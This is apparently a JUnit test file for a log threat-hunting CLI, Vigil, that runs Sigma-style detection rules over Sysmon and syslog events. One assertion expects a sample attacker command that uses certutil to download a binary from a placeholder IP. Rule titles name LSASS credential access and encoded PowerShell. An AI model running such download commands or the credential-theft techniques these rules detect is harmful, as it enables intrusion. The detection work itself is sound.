package io.vigil.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class HuntCommandTest {
  private static final ObjectMapper JSON = new ObjectMapper();

  @TempDir Path dir;

  @Test
  void hunt_noArguments_tableOfStarterDetectionsAndSummary() {
    HuntRun run = HuntRun.of("hunt");

    assertThat(run.exit()).as(run.toString()).isZero();
    List<String> lines = run.out().lines().toList();
    assertThat(lines.get(0)).startsWith("TIME").contains("LEVEL", "RULE", "HOST", "DETAIL");
    assertThat(run.out())
        .contains("PowerShell Started With an Encoded Command")
        .contains("Certutil Used to Download a File")
        .contains("Process Opened LSASS With Memory-Read Access")
        .contains("Program Added to a Run Key")
        .contains("New Service Installed")
        .contains("Security Event Log Cleared")
        .contains("2026-03-14T09:02:01.677Z")
        .contains("WS-FINANCE-07.corp.example")
        .contains("certutil.exe -urlcache -split -f http://198.51.100.7/u/agent.bin");
    // the filters of the starter rules hold: Defender reading LSASS and Program Files run keys
    assertThat(run.out()).doesNotContain("MsMpEng.exe").doesNotContain("ZoomAutoStart");
    assertThat(run.err())
        .contains("vigil hunt: 49 events read from 1 input")
        .contains("0 parse errors")
        .contains("detections: 13 (critical 0, high 7, medium 3, low 3, informational 0)")
        .contains("top rules")
        .contains("by ATT&CK tactic:")
        .containsPattern("\\s+1\\s+credential-access");
  }

  @Test
  void hunt_jsonl_oneObjectPerDetectionWithRuleSourceAndRawEvent() throws IOException {
    Path rules = rule("whoami.yml", "Image|endswith: '\\whoami.exe'", "low");
    String fired =
        "{\"TimeCreated\":\"2020-10-18 07:50:06.220\",\"EventID\":1,"
            + "\"Channel\":\"Microsoft-Windows-Sysmon/Operational\",\"Hostname\":\"pc1\","
            + "\"Image\":\"C:\\\\Windows\\\\System32\\\\whoami.exe\",\"Extra\":{\"a\":[1,2]}}";
    Path log = write("log.jsonl", sysmon1("C:\\\\Windows\\\\notepad.exe") + "\n" + fired + "\n");

    HuntRun run =
        HuntRun.of("hunt", "--rules", rules.toString(), "--format", "jsonl", log.toString());

    assertThat(run.exit()).as(run.toString()).isZero();
    List<String> lines = run.out().lines().toList();
    assertThat(lines).hasSize(1);
    JsonNode d = JSON.readTree(lines.get(0));
    assertThat(d.get("timestamp").asText()).isEqualTo("2020-10-18T07:50:06.220");
    assertThat(d.at("/rule/id").asText()).isEqualTo("00000000-0000-4000-8000-000000000001");
    assertThat(d.at("/rule/title").asText()).isEqualTo("Test whoami.yml");
    assertThat(d.at("/rule/level").asText()).isEqualTo("low");
    assertThat(d.at("/rule/tags/0").asText()).isEqualTo("attack.discovery");
    assertThat(d.at("/rule/author").asText()).isEqualTo("Vigil tests");
    assertThat(d.at("/source/file").asText()).isEqualTo(log.toString());
    assertThat(d.at("/source/index").asLong()).isEqualTo(2);
    assertThat(d.get("event")).isEqualTo(JSON.readTree(fired));
  }

  @Test
  void hunt_csv_rfc4180QuotingAndCrlf() throws IOException {
    Path rules = rule("cmd.yml", "CommandLine|contains: 'secret'", "medium");
    Path log =
        write(
            "log.jsonl",
            "{\"EventID\":1,\"Channel\":\"Microsoft-Windows-Sysmon/Operational\","
                + "\"Image\":\"C:\\\\x.exe\",\"CommandLine\":\"x.exe \\\"secret, file\\\"\"}\n");

    HuntRun run =
        HuntRun.of("hunt", "--rules", rules.toString(), "--format", "csv", log.toString());

    assertThat(run.exit()).as(run.toString()).isZero();
    assertThat(run.out())
        .startsWith(
            "timestamp,level,rule_id,rule_title,tags,host,detail,source_file,source_index\r\n")
        .contains(
            ",medium,00000000-0000-4000-8000-000000000001,Test cmd.yml,attack.discovery,,"
                + "\"x.exe \"\"secret, file\"\"\","
                + log
                + ",1\r\n");
  }

  @Test
  void hunt_minLevel_dropsLowerLevels() {
    HuntRun run = HuntRun.of("hunt", "--min-level", "high", "--rules", starter(), example());

    assertThat(run.exit()).as(run.toString()).isZero();
    assertThat(run.out()).doesNotContain("Whoami Executed").doesNotContain("New Service Installed");
    assertThat(run.err()).contains("detections: 7 (critical 0, high 7, medium 0, low 0");
  }

  @Test
  void hunt_oneThreadOrFour_sameOutputInInputOrder() throws IOException {
    Path rules = rule("cmd.yml", "CommandLine|contains: 'fire'", "high");
    StringBuilder text = new StringBuilder();
    for (int i = 1; i <= 3000; i++) {
      text.append("{\"EventID\":1,\"Channel\":\"Microsoft-Windows-Sysmon/Operational\",")
          .append("\"CommandLine\":\"")
          .append(i % 7 == 0 ? "fire " : "calm ")
          .append(i)
          .append("\"}\n");
    }
    Path log = write("many.jsonl", text.toString());

    HuntRun one =
        HuntRun.of(
            "hunt",
            "--threads",
            "1",
            "--format",
            "csv",
            "--rules",
            rules.toString(),
            log.toString());
    HuntRun four =
        HuntRun.of(
            "hunt",
            "--threads",
            "4",
            "--format",
            "csv",
            "--rules",
            rules.toString(),
            log.toString());

    assertThat(one.exit()).isZero();
    assertThat(four.out()).isEqualTo(one.out());
    List<String> rows = one.out().lines().skip(1).toList();
    assertThat(rows).hasSize(3000 / 7);
    assertThat(rows.get(0)).endsWith(",7");
    assertThat(rows.get(rows.size() - 1)).endsWith("," + (3000 / 7 * 7));
    assertThat(one.err()).contains("3,000 events read");
  }

  @Test
  void hunt_malformedRecordsAndUnknownFiles_reportedCountedAndTheHuntGoesOn() throws IOException {
    Path rules = rule("cmd.yml", "CommandLine|contains: 'fire'", "high");
    Files.createDirectories(dir.resolve("logs"));
    write(
        "logs/a.jsonl",
        "{\"EventID\":1,\"Channel\":\"Microsoft-Windows-Sysmon/Operational\","
            + "\"CommandLine\":\"fire\"}\n{broken\n");
    write("logs/b.txt", "Meeting notes: bring the slides\n");

    HuntRun run = HuntRun.of("hunt", "--rules", rules.toString(), dir.resolve("logs").toString());

    assertThat(run.exit()).as(run.toString()).isZero();
    assertThat(run.out()).contains("Test cmd.yml");
    assertThat(run.err())
        .contains("vigil hunt: bad record: " + dir.resolve("logs/a.jsonl") + "#2: malformed JSON")
        .contains("vigil hunt: note: " + dir.resolve("logs/b.txt") + ": skipped: not JSON")
        .contains("1 events read")
        .contains("1 parse error")
        .contains("0 unreadable, 1 skipped");
  }

  @Test
  void hunt_syslogFile_readByContentOrForced_firesLinuxRule() throws IOException {
    Path rules = Files.createDirectories(dir.resolve("linux-rules"));
    Files.writeString(
        rules.resolve("ssh.yml"),
        "title: Test SSH invalid user\nid: 00000000-0000-4000-8000-000000000002\n"
            + "logsource:\n  product: linux\n  service: sshd\n"
            + "detection:\n  selection:\n    process.name: sshd\n    message|contains: 'Invalid"
            + " user'\n  condition: selection\nlevel: medium\n");
    Path log =
        write(
            "auth.log",
            "Dec 10 06:55:46 LabSZ sshd[24200]: Invalid user webmaster from 173.234.31.186\n"
                + "Dec 10 06:55:47 LabSZ sshd[24200]: Connection closed\n");

    HuntRun auto =
        HuntRun.of("hunt", "--rules", rules.toString(), "--format", "jsonl", log.toString());
    HuntRun forced =
        HuntRun.of(
            "hunt",
            "--rules",
            rules.toString(),
            "--format",
            "jsonl",
            "--input-format",
            "syslog",
            log.toString());

    assertThat(auto.exit()).as(auto.toString()).isZero();
    assertThat(auto.out().lines().toList()).hasSize(1);
    assertThat(
            JSON.readTree(auto.out().lines().findFirst().orElseThrow())
                .at("/source/index")
                .asLong())
        .isEqualTo(1);
    assertThat(auto.err()).contains("2 events read");
    assertThat(forced.exit()).as(forced.toString()).isZero();
    assertThat(forced.out()).isEqualTo(auto.out());
  }

  @Test
  void hunt_unknownInputFormat_usageErrorListingTheFormats() {
    HuntRun run = HuntRun.of("hunt", "--input-format", "yaml", example());

    assertThat(run.exit()).isEqualTo(2);
    assertThat(run.err())
        .contains("unknown --input-format 'yaml'")
        .contains("auto, json, evtx")
        .contains("syslog")
        .contains("zeek-tsv");
  }

  @Test
  void hunt_outputFile_detectionsGoThereNotToStdout() throws IOException {
    Path out = dir.resolve("out/detections.jsonl");

    HuntRun run = HuntRun.of("hunt", "--format", "jsonl", "-o", out.toString());

    assertThat(run.exit()).as(run.toString()).isZero();
    assertThat(run.out()).isEmpty();
    assertThat(Files.readAllLines(out, StandardCharsets.UTF_8)).hasSize(13);
  }

  @Test
  void hunt_standardInput_readAsStdin() throws IOException {
    java.io.InputStream oldIn = System.in;
    try (var in = HuntExamples.exampleLog()) {
      System.setIn(in);
      HuntRun run = HuntRun.of("hunt", "--rules", starter(), "--format", "jsonl", "-");

      assertThat(run.exit()).as(run.toString()).isZero();
      assertThat(run.out().lines()).hasSize(13).allMatch(l -> l.contains("\"file\":\"stdin\""));
    } finally {
      System.setIn(oldIn);
    }
  }

  @Test
  void hunt_outputIsADirectory_exit2WithWhatToDo() {
    HuntRun run = HuntRun.of("hunt", "-o", dir.toString());

    assertThat(run.exit()).isEqualTo(2);
    assertThat(run.err())
        .startsWith("vigil hunt: cannot write output " + dir)
        .contains("Give a file in a writable directory.");
  }

  @Test
  void hunt_missingInput_exit2WithWhatToDo() {
    HuntRun run = HuntRun.of("hunt", "--rules", starter(), "/x/y");

    assertThat(run.exit()).isEqualTo(2);
    assertThat(run.err())
        .isEqualTo(
            "vigil hunt: cannot read input /x/y: no such file or directory. Give a file or"
                + " directory of JSON logs."
                + System.lineSeparator());
  }

  @Test
  void hunt_badUsage_exit2NamingTheOption() {
    assertThat(HuntRun.of("hunt", "--format", "xml").err())
        .contains("unknown --format 'xml'. Give table, csv or jsonl.");
    assertThat(HuntRun.of("hunt", "--min-level", "severe").exit()).isEqualTo(2);
    assertThat(HuntRun.of("hunt", "--threads", "0").err()).contains("--threads must be between");
    assertThat(HuntRun.of("hunt", "--rules", starter()).err()).contains("no INPUT given");
    assertThat(HuntRun.of("hunt", "--limit", "ingest.max-lines=3", example()).err())
        .contains("unknown read limit 'ingest.max-lines'");
    assertThat(HuntRun.of("hunt", "--rules", "/no/rules", example()).err())
        .contains("cannot read rules /no/rules: no such file or directory");
  }

  @Test
  void hunt_someRulesBroken_countAndFirstProblemsThenHuntsWithTheRest() throws IOException {
    Path rules = rule("good.yml", "CommandLine|contains: 'fire'", "high");
    Files.writeString(
        rules.resolve("bad.yml"), "title: Bad\nid: x\ndetection:\n  condition: nope\n");
    Path log =
        write(
            "log.jsonl",
            "{\"EventID\":1,\"Channel\":\"Microsoft-Windows-Sysmon/Operational\","
                + "\"CommandLine\":\"fire\"}\n");

    HuntRun run = HuntRun.of("hunt", "--rules", rules.toString(), log.toString());

    assertThat(run.exit()).as(run.toString()).isZero();
    assertThat(run.err())
        .contains("rule problem")
        .contains("bad.yml")
        .contains("vigil rules check");
    assertThat(run.out()).contains("Test good.yml");
  }

  @Test
  void hunt_gzipAndZipInputs_sameDetectionsAsPlain() throws IOException {
    byte[] plain;
    try (var in = HuntExamples.exampleLog()) {
      plain = in.readAllBytes();
    }
    Path zip = dir.resolve("example.zip");
    try (var z = new java.util.zip.ZipOutputStream(Files.newOutputStream(zip))) {
      z.putNextEntry(new java.util.zip.ZipEntry("inner/example.json"));
      z.write(plain);
      z.closeEntry();
    }

    HuntRun run = HuntRun.of("hunt", "--rules", starter(), "--format", "csv", zip.toString());

    assertThat(run.exit()).as(run.toString()).isZero();
    assertThat(run.out().lines().count()).isEqualTo(14);
    assertThat(run.out()).contains(zip + "!inner/example.json");
  }

  /** A directory holding one test rule over Sysmon process creation with the given selection. */
  private Path rule(String name, String selection, String level) throws IOException {
    Path rules = Files.createDirectories(dir.resolve("rules-" + name));
    Files.writeString(
        rules.resolve(name),
        "title: Test "
            + name
            + "\nid: 00000000-0000-4000-8000-000000000001\nauthor: Vigil tests\n"
            + "tags:\n  - attack.discovery\n"
            + "logsource:\n  product: windows\n  category: process_creation\n"
            + "detection:\n  selection:\n    "
            + selection
            + "\n  condition: selection\nlevel: "
            + level
            + "\n");
    return rules;
  }

  private static String sysmon1(String image) {
    return "{\"EventID\":1,\"Channel\":\"Microsoft-Windows-Sysmon/Operational\",\"Image\":\""
        + image
        + "\"}";
  }

  private Path write(String name, String text) throws IOException {
    Path p = dir.resolve(name);
    Files.writeString(p, text, StandardCharsets.UTF_8);
    return p;
  }

  /** The starter rules, as files (tests run from the module directory). */
  static String starter() {
    return Path.of("src/main/resources/io/vigil/cli/examples/rules").toAbsolutePath().toString();
  }

  static String example() {
    return Path.of("src/main/resources/io/vigil/cli/examples/windows-example.jsonl")
        .toAbsolutePath()
        .toString();
  }
}
